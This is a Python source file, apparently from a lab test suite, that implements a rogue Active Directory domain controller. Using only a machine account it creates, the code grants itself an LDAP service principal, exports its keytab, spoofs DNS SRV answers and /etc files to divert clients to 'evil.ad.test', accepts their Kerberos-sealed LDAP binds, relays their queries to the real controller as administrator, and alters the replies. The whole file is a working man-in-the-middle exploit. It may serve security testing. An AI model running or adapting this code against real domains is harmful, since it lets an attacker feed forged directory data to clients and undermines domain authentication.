# SPDX-License-Identifier: LGPL-2.1-or-later
"""A member of the lab's domain that poses as its controller, with nothing but its own machine account and a spoofed DNS.

It accepts Kerberos binds with the machine's key, asks the real controller what it is asked, and gives the answers on with
octets of its own choice replaced by as many others.
"""

import base64
import contextlib
import ctypes
import os
import socket
import ssl
import struct
import threading
from pathlib import Path

from domain_controller import ADMINISTRATOR_PASSWORD, BASE, HOST, REALM, DomainController, run
from listener import Listener

EVIL_HOST = "evil.ad.test"
EVIL_ADDRESS = "127.0.0.9"
EVIL_DN = f"CN=EVIL,CN=Computers,{BASE}"
PASSWORD = "evil.Passw0rd.of.the.lab"
SRV = 33
SEALED = 4
MAX_CHUNK = 32 * 1024


def join(domain: DomainController, keytab: Path) -> None:
    """A machine account like any other, which then gives itself its names, by the right that every machine has."""
    domain.modify(f"dn: {EVIL_DN}\nchangetype: add\nobjectClass: computer\nsAMAccountName: EVIL$\nuserAccountControl: 4096\n"
                  f"unicodePwd:: {quoted(PASSWORD)}\n\n")
    own_names(domain, f"ldap/{EVIL_HOST}")
    domain.offline("samba-tool", "domain", "exportkeytab", str(keytab), "--principal=EVIL$")


def leave(domain: DomainController) -> None:
    domain.modify(f"dn: {EVIL_DN}\nchangetype: delete\n\n")


def own_names(domain: DomainController, *names: str) -> None:
    """As the machine itself."""
    values = "".join(f"servicePrincipalName: {name}\n" for name in names)
    run("env", f"LDAPTLS_CACERT={domain.ca_file}", "ldapmodify", "-x", "-H", f"ldaps://{HOST}", "-D", EVIL_DN, "-w", PASSWORD,
        give=f"dn: {EVIL_DN}\nchangetype: modify\nreplace: dNSHostName\ndNSHostName: {EVIL_HOST}\n\n"
             f"dn: {EVIL_DN}\nchangetype: modify\nadd: servicePrincipalName\n{values}\n")


def quoted(password: str) -> str:
    return base64.b64encode(f'"{password}"'.encode("utf-16-le")).decode()


# --- DNS -------------------------------------------------------------------------------------------------------
class SpoofedDns:
    """Every SRV question has one answer: the evil host. There is nothing else."""

    def __init__(self):
        self.questions = 0
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind((EVIL_ADDRESS, 53))
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def stop(self) -> None:
        self._socket.sendto(b"", (EVIL_ADDRESS, 53))
        self._thread.join()
        self._socket.close()

    def _serve(self) -> None:
        while True:
            query, client = self._socket.recvfrom(4096)
            if not query:
                return
            self._socket.sendto(self._answer(query), client)

    def _answer(self, query: bytes) -> bytes:
        end = 12
        while query[end]:
            end += query[end] + 1
        question = query[12:end + 5]
        kind = struct.unpack(">H", query[end + 1:end + 3])[0]
        if kind != SRV:
            return query[:2] + struct.pack(">HHHHH", 0x8183, 1, 0, 0, 0) + question
        self.questions += 1
        target = b"".join(bytes([len(part)]) + part.encode() for part in EVIL_HOST.split(".")) + b"\0"
        data = struct.pack(">HHH", 0, 100, 389) + target
        record = b"\xc0\x0c" + struct.pack(">HHIH", SRV, 1, 60, len(data)) + data
        return query[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0) + question + record


@contextlib.contextmanager
def spoofed_network():
    """The name server is the evil one; the hosts are where they are."""
    saved = {name: Path("/etc", name).read_text() for name in ("hosts", "resolv.conf")}
    Path("/etc/hosts").write_text(saved["hosts"] + f"{EVIL_ADDRESS} {EVIL_HOST}\n")
    Path("/etc/resolv.conf").write_text(f"nameserver {EVIL_ADDRESS}\noptions timeout:2 attempts:1\n")
    dns = SpoofedDns()
    try:
        yield dns
    finally:
        dns.stop()
        for name, text in saved.items():
            Path("/etc", name).write_text(text)


# --- Kerberos, RFC 2743 and 4752 -------------------------------------------------------------------------------
class Buffer(ctypes.Structure):
    _fields_ = [("length", ctypes.c_size_t), ("value", ctypes.c_void_p)]

    @classmethod
    def of(cls, octets: bytes) -> "Buffer":
        made = cls(len(octets), ctypes.cast(ctypes.c_char_p(octets), ctypes.c_void_p))
        made.kept = octets
        return made

    def octets(self) -> bytes:
        return ctypes.string_at(self.value, self.length) if self.length else b""


class Acceptor:
    """One security context, accepted with any key of `keytab`."""

    def __init__(self, keytab: Path):
        self._gss = ctypes.CDLL("libgssapi_krb5.so.2")
        self._gss.krb5_gss_register_acceptor_identity(str(keytab).encode())
        self._context = ctypes.c_void_p()

    def accept(self, token: bytes) -> bytes:
        minor, out = ctypes.c_uint32(), Buffer()
        major = self._gss.gss_accept_sec_context(
            ctypes.byref(minor), ctypes.byref(self._context), None, ctypes.byref(Buffer.of(token)), None, None, None,
            ctypes.byref(out), None, None, None)
        if major:
            raise PermissionError(f"gss_accept_sec_context: {major:#x}, {minor.value}")
        return out.octets()

    def wrap(self, octets: bytes, *, sealed: bool = True) -> bytes:
        minor, state, out = ctypes.c_uint32(), ctypes.c_int(), Buffer()
        assert self._gss.gss_wrap(ctypes.byref(minor), self._context, int(sealed), 0, ctypes.byref(Buffer.of(octets)),
                                  ctypes.byref(state), ctypes.byref(out)) == 0
        return out.octets()

    def unwrap(self, octets: bytes) -> bytes:
        minor, state, out = ctypes.c_uint32(), ctypes.c_int(), Buffer()
        assert self._gss.gss_unwrap(ctypes.byref(minor), self._context, ctypes.byref(Buffer.of(octets)), ctypes.byref(out),
                                    ctypes.byref(state), None) == 0
        return out.octets()


# --- LDAP ------------------------------------------------------------------------------------------------------
def tlv(tag: int, content: bytes) -> bytes:
    size = len(content)
    length = bytes([size]) if size < 128 else bytes([0x80 | 4]) + size.to_bytes(4, "big")
    return bytes([tag]) + length + content


def parts(octets: bytes) -> list[tuple[int, bytes]]:
    found = []
    while octets:
        head, size = header(octets)
        found.append((octets[0], octets[head:head + size]))
        octets = octets[head + size:]
    return found


def header(octets: bytes) -> tuple[int, int]:
    """How long the header is, and how long the content."""
    if octets[1] < 128:
        return 2, octets[1]
    count = octets[1] & 0x7F
    return 2 + count, int.from_bytes(octets[2:2 + count], "big")


def exactly(receive, size: int) -> bytes:
    out = b""
    while len(out) < size:
        more = receive(size - len(out))
        if not more:
            raise ConnectionError
        out += more
    return out


def message(receive) -> bytes:
    start = exactly(receive, 2)
    if start[1] >= 128:
        start += exactly(receive, start[1] & 0x7F)
    return start + exactly(receive, header(start)[1])


def bind_response(number: bytes, code: int, credentials: bytes | None = None) -> bytes:
    body = tlv(10, bytes([code])) + tlv(4, b"") + tlv(4, b"")
    if credentials is not None:
        body += tlv(0x87, credentials)
    return tlv(0x30, tlv(2, number) + tlv(0x61, body))


class RogueController(Listener):
    """`replaced`: what its clients see instead of what the directory says."""

    def __init__(self, domain: DomainController, keytab: Path, replaced: dict[bytes, bytes]):
        assert all(len(true) == len(false) for true, false in replaced.items())
        self._domain, self._keytab, self._replaced = domain, keytab, replaced
        self.binds = 0  # whoever took it for a controller
        os.environ["KRB5RCACHENAME"] = "none:"
        super().__init__(host=EVIL_ADDRESS, port=389)

    def _serve(self, connection: socket.socket) -> None:
        with contextlib.suppress(OSError), connection:
            acceptor = self._bind(connection)
            self.binds += 1
            with self._controller() as far:
                threading.Thread(target=self._upward, args=(connection, far, acceptor), daemon=True).start()
                self._downward(connection, far, acceptor)

    def _bind(self, connection: socket.socket) -> Acceptor:
        acceptor = Acceptor(self._keytab)
        number, token = self._bind_request(connection)
        try:
            answer = acceptor.accept(token)
        except PermissionError:
            connection.sendall(bind_response(number, 49))
            raise
        connection.sendall(bind_response(number, 14, answer))
        number, token = self._bind_request(connection)
        offer = acceptor.wrap(bytes([SEALED]) + MAX_CHUNK.to_bytes(3, "big"), sealed=False)
        connection.sendall(bind_response(number, 14, offer))
        number, token = self._bind_request(connection)
        assert acceptor.unwrap(token)[0] == SEALED
        connection.sendall(bind_response(number, 0))
        return acceptor

    @staticmethod
    def _bind_request(connection: socket.socket) -> tuple[bytes, bytes]:
        (_, content), = parts(message(connection.recv))
        (_, number), (tag, request), *_ = parts(content)
        assert tag == 0x60, tag
        _, sasl = parts(request)[2]
        given = parts(sasl)
        return number, given[1][1] if len(given) > 1 else b""

    @contextlib.contextmanager
    def _controller(self):
        """The real one, as somebody who may read it."""
        trust = ssl.create_default_context(cafile=str(self._domain.ca_file))
        with socket.create_connection((HOST, 636)) as plain, trust.wrap_socket(plain, server_hostname=HOST) as far:
            who = tlv(2, b"\x03") + tlv(4, f"administrator@{REALM.lower()}".encode()) + tlv(0x80, ADMINISTRATOR_PASSWORD.encode())
            far.sendall(tlv(0x30, tlv(2, b"\x01") + tlv(0x60, who)))
            message(far.recv)
            yield far

    @staticmethod
    def _upward(near: socket.socket, far: ssl.SSLSocket, acceptor: Acceptor) -> None:
        with contextlib.suppress(OSError):
            while True:
                size = int.from_bytes(exactly(near.recv, 4), "big")
                far.sendall(acceptor.unwrap(exactly(near.recv, size)))
        with contextlib.suppress(OSError):
            far.shutdown(socket.SHUT_RDWR)

    def _downward(self, near: socket.socket, far: ssl.SSLSocket, acceptor: Acceptor) -> None:
        while True:
            octets = message(far.recv)
            for true, false in self._replaced.items():
                octets = octets.replace(true, false)
            for at in range(0, len(octets), MAX_CHUNK // 2):
                wrapped = acceptor.wrap(octets[at:at + MAX_CHUNK // 2])
                near.sendall(len(wrapped).to_bytes(4, "big") + wrapped)
